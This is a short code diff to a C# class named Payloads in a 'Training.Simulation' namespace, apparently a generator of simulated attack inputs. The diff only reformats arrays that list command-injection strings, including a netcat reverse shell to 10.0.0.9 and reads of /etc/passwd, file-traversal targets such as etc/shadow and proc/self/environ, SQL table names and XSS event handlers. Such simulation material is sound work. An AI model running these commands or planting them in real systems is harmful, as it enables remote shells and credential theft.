@@ -6,8 +6,10 @@ namespace Relay.Training.Simulation;
 internal static class Payloads
 {
     private static readonly string[] Tables = ["users", "accounts", "orders", "information_schema.tables", "sqlite_master"];
-    private static readonly string[] Commands = ["id", "whoami", "cat /etc/passwd", "uname -a", "ls -la /var/www", "ping -c 3 10.0.0.9", "nc -e /bin/sh 10.0.0.9 4444"];
-    private static readonly string[] Files = ["etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "var/log/auth.log", "app/config.yml"];
+    private static readonly string[] Commands =
+        ["id", "whoami", "cat /etc/passwd", "uname -a", "ls -la /var/www", "ping -c 3 10.0.0.9", "nc -e /bin/sh 10.0.0.9 4444"];
+    private static readonly string[] Files =
+        ["etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "var/log/auth.log", "app/config.yml"];
     private static readonly string[] Events = ["onerror", "onload", "onmouseover", "onfocus"];
 
     public static string SqlInjection(Random r) => r.Next(7) switch
